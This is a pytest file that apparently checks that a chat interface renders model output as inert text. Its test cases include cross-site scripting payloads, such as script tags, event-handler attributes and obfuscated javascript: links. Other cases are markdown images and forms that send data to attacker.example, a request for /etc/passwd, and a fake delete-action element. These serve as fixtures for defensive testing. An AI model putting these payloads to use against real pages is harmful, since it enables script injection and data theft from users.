"""What a model writes stands on the page as text."""

from __future__ import annotations

import pytest

from chatlab.conversation import Conversation
from chatlab.ui.chat.transcript import transcript
from chatlab.ui.markdown import prose


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>window.hacked=1</script>",
        "<img src=x onerror=alert(1)>",
        "![](http://attacker.example/?q=secret)",
        "![a](data:image/svg+xml;base64,AAAA)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](/gradio_api/file=/etc/passwd)",
        "<form action=http://attacker.example><input></form>",
        '"><svg onload=alert(1)>',
        "```\n</code></pre><iframe src=http://attacker.example>\n```",
        '[x](http://ok.example "\\" onmouseover=alert(1) x=\\"")',
        '<http://attacker.example/" onclick=alert(1)>',
        "a\n\n<div data-act=delete data-conversation=1>\n\nb",
        "\x00\x1b[31m\u202e",
    ],
)
def test_what_a_model_writes_can_only_be_read(hostile: str) -> None:
    tags = _tags(prose(hostile))
    assert not {name for name, _ in tags} & {
        "script",
        "img",
        "svg",
        "iframe",
        "form",
        "input",
        "object",
        "style",
        "div",
    }
    assert all(key in {"href", "target", "rel", "title", "class", "start"} for _, keys in tags for key in keys)
    assert "\n" not in prose(hostile)
    said = Conversation().grown(role="user", content=hostile).grown(role="assistant", content=hostile)
    allowed = {"div", "span", "button", "svg", "path", "p", "code", "pre", "a", "br", "em"}
    assert {name for name, _ in _tags(transcript(said, 30))} <= allowed
    assert transcript(said, 30).count('data-act="') == transcript(_harmless(), 30).count('data-act="')


def _harmless() -> Conversation:
    return Conversation().grown(role="user", content="a").grown(role="assistant", content="b")


def _tags(html: str) -> list[tuple[str, list[str]]]:
    from html.parser import HTMLParser

    found: list[tuple[str, list[str]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, [name for name, _ in attrs]))

    Reader().feed(html)
    return found
